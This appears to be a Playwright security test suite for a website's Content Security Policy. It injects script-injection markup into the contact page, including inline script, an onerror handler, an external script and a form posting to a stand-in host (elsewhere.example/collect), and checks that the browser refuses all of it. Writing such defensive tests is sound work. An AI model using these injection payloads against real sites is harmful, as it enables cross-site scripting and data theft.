import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { APIRequestContext, Page } from '@playwright/test';
import { CspEvaluator } from 'csp_evaluator';
import { Severity } from 'csp_evaluator/dist/finding.js';
import { CspParser } from 'csp_evaluator/dist/parser.js';
import { content } from '../lib/content/content';
import { TEST_ENDPOINT } from '../scripts/local-site';
import { expect, scriptsHaveRun, test, withBasePath } from './support/site';

/** Somebody else's host. */
const ELSEWHERE = 'https://elsewhere.example';

/** What an attacker who could write into a page would write. */
const INJECTED = `
  <script>window.harm = 'inline script'</script>
  <script src="${ELSEWHERE}/harm.js"></script>
  <img src="/none.png" onerror="window.harm = 'handler'">
  <form id="stolen" action="${ELSEWHERE}/collect" method="post"><input name="a" value="b"></form>
  <iframe src="${ELSEWHERE}/frame"></iframe>
  <base href="${ELSEWHERE}/">
  <link rel="stylesheet" href="${ELSEWHERE}/harm.css">`;

/** The policy in a page's head. */
async function policyOf(request: APIRequestContext, path: string): Promise<string> {
  const html = await (await request.get(withBasePath(path))).text();
  return /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
}

/** Opens the contact page with what was injected into it, and tells which directives refused something. */
async function openInjected(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('recordRefusal', (directive: string) => refused.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      window.recordRefusal(effectiveDirective),
    );
  });
  await page.route(withBasePath('/contact/'), async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</main>', `${INJECTED}</main>`);
    return route.fulfill({ response, body });
  });
  // Hydration would take the injected elements out of the page.
  await page.route('**/_next/static/chunks/**', (route) => route.abort());
  await page.goto(withBasePath('/contact/'));
  return refused;
}

test('whatever is injected into a page is refused', async ({ page, visit }) => {
  const refused = await openInjected(page);
  await page.locator('#stolen').evaluate((form: HTMLFormElement) => form.submit());
  const directives = ['base-uri', 'form-action', 'frame-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'];
  await expect.poll(() => [...new Set(refused)].sort()).toEqual(directives);
  expect(await page.evaluate(() => window.harm)).toBeUndefined();
  expect(page.url()).toContain(withBasePath('/contact/'));
  expect(visit.strayRequests).toEqual([]);
});

test('no text becomes code', async ({ page, visit }) => {
  await page.goto(withBasePath('/contact/'));
  await scriptsHaveRun(page);
  const attempts = await page.evaluate(async (elsewhere) => {
    const attempt = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    return [
      attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.harm = 1">')),
      attempt(() => Object.assign(document.createElement('script'), { src: `${elsewhere}/harm.js` })),
      attempt(() => Object.assign(document.createElement('script'), { text: 'window.harm = 1' })),
      // What Playwright evaluates may use eval; a timer in the page runs under the policy.
      await new Promise((resolve) => {
        // biome-ignore lint/security/noGlobalEval: the policy has to refuse it.
        setTimeout(() => resolve(attempt(() => window.eval('window.harm = 1'))));
      }),
      attempt(() => window.trustedTypes?.createPolicy('own', {})),
    ];
  }, ELSEWHERE);
  expect(attempts).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError', 'TypeError']);
  expect(await page.evaluate(() => window.harm)).toBeUndefined();
  expect(visit.strayRequests).toEqual([]);
});

test('no page of another site can frame this one', async ({ page, visit, baseURL }) => {
  const framing = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><title>Framing</title><iframe src="${baseURL}${withBasePath('/contact/')}"></iframe>`);
  });
  await new Promise<void>((resolve) => framing.listen(0, '127.0.0.1', resolve));
  const address = `http://127.0.0.1:${(framing.address() as AddressInfo).port}/`;
  await page.goto(address, { waitUntil: 'networkidle' });
  await expect.poll(() => visit.messages.join()).toContain("frame-ancestors 'none'");
  await expect(page.frameLocator('iframe').getByRole('heading', { name: content.pages.contact.heading })).toHaveCount(
    0,
  );
  framing.close();
});

test('the policy names the hosts of the content and no others', async ({ request }) => {
  const policy = await policyOf(request, '/');
  const hosts = new Set(policy.match(/https?:\/\/[^\s;]+/g));
  const images = content.projects.flatMap(({ image }) => (image ? new URL(image.src).origin : []));
  expect([...hosts].sort()).toEqual([...new Set([...images, TEST_ENDPOINT])].sort());
  expect(policy).not.toContain('unsafe');
});

test('csp_evaluator finds nothing but its standing note on the site’s own scripts', async ({ request }) => {
  const policy = await policyOf(request, '/');
  // The tested site's inbox is on this machine; the owner's form service is on the web.
  const published = policy.replaceAll(TEST_ENDPOINT, 'https://forms.example/f/your-form-id');
  const findings = new CspEvaluator(new CspParser(published).csp)
    .evaluate()
    .filter(({ severity }) => severity <= Severity.MEDIUM_MAYBE)
    .map(({ directive, value }) => `${directive} ${value}`);
  expect(findings).toEqual(["script-src 'self'"]);
});

/**
 * The tests of MDN's HTTP Observatory that headers decide, with their modifiers
 * (https://developer.mozilla.org/en-US/observatory/docs/tests_and_scoring). The rest are
 * 0 here: no cookies, no cross-origin sharing, scripts from the site alone, and the
 * configurations in deploy/ lead http to https on the same host.
 */
const OBSERVATORY = {
  /** 10 would ask for a form that sends to nobody; it is -25 without a policy, -20 with `unsafe`. */
  'content-security-policy': (value: string) =>
    !value ? -25 : /unsafe|data:|\shttps?:[\s;]/.test(value) || !/default-src 'none'/.test(value) ? -20 : 5,
  /** By the policy; -20 with neither that nor a header of its own. */
  'x-frame-options': (value: string, policy: string) =>
    /frame-ancestors 'none'/.test(policy) ? 5 : /^(DENY|SAMEORIGIN)$/.test(value) ? 0 : -20,
  'referrer-policy': (value: string) =>
    /^(no-referrer|same-origin|strict-origin|strict-origin-when-cross-origin)$/.test(value) ? 5 : value ? -5 : 0,
  /** Six months at least. */
  'strict-transport-security': (value: string) =>
    !value ? -20 : Number(/max-age=(\d+)/.exec(value)?.[1] ?? 0) >= 15_768_000 ? 0 : -10,
  'x-content-type-options': (value: string) => (value === 'nosniff' ? 0 : -5),
};

test('headers and policy are worth an A+ of the HTTP Observatory', async ({ request }) => {
  const sent = (await request.get(withBasePath('/'))).headers();
  // It reads policies out of pages too.
  const policy = `${await policyOf(request, '/')}; ${sent['content-security-policy']}`;
  const headers: Record<string, string> = { ...sent, 'content-security-policy': policy };
  const modifiers: number[] = Object.entries(OBSERVATORY).map(([name, judge]) => judge(headers[name] ?? '', policy));
  const penalties = modifiers.filter((modifier) => modifier < 0).reduce((sum, modifier) => sum + modifier, 0);
  const bonuses = modifiers.filter((modifier) => modifier > 0).reduce((sum, modifier) => sum + modifier, 0);
  // Bonuses count from 90 points on; A+ begins at 100.
  const base = 100 + penalties;
  const score = base >= 90 ? base + bonuses : base;
  expect(score).toBe(115);
});

declare global {
  interface Window {
    recordRefusal: (directive: string) => void;
    harm?: string;
    trustedTypes?: { createPolicy: (name: string, rules: object) => unknown };
  }
}
